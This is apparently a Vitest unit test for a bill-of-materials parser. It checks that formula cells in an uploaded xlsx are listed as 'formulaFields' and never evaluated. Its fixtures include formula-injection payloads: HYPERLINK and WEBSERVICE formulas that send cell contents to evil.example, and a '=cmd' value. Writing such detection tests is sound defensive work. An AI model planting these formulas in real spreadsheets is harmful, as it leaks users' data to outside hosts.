import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { analyseBom } from '../src/modules/bom/bom-analysis.ts';

/** An xlsx of one sheet from rows of cells (strings, numbers or SheetJS cells with a formula `f`). */
function buildXlsx(rows: Array<Array<string | number | XLSX.CellObject>>): Uint8Array {
  const sheet = XLSX.utils.aoa_to_sheet([]);
  rows.forEach((row, r) => {
    row.forEach((cell, c) => {
      sheet[XLSX.utils.encode_cell({ r, c })] =
        typeof cell === 'object' ? cell : typeof cell === 'number' ? { t: 'n', v: cell } : { t: 's', v: cell };
    });
  });
  sheet['!ref'] = XLSX.utils.encode_range({ s: { r: 0, c: 0 }, e: { r: rows.length - 1, c: 5 } });
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, sheet, 'BOM');
  return new Uint8Array(XLSX.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
}

describe('formulaFields of an xlsx', () => {
  it('lists every formula cell of a line (HYPERLINK, WEBSERVICE, a computed quantity), whatever its cached text', () => {
    const bytes = buildXlsx([
      ['Designator', 'Qty', 'MPN', 'Manufacturer', 'Description'],
      [
        'R1',
        { t: 'n', f: 'SUM(1,2)', v: 3 },
        { t: 's', f: 'HYPERLINK("http://evil.example/?leak="&A1,"RC0603")', v: 'RC0603' },
        'Yageo',
        { t: 's', f: 'WEBSERVICE("http://evil.example/"&C2)', v: 'resistor' },
      ],
      ['R2', 1, { t: 's', f: 'WEBSERVICE("http://evil.example/")', v: '' }, '=cmd', 'plain'],
      ['R3', 1, 'ABC-1', 'Yageo', 'plain'],
    ]);
    const { dataList } = analyseBom(bytes, { format: 'xlsx' });
    expect(dataList.map((line) => [line.designator, line.formulaFields])).toEqual([
      ['R1', ['quantity', 'mpn', 'description']],
      ['R2', ['mpn', 'manufacturer']],
      ['R3', []],
    ]);
    // Never evaluated: the cached values are what the lines show.
    expect(dataList[0]).toMatchObject({ quantity: 3, mpn: 'RC0603', description: 'resistor' });
  });
});
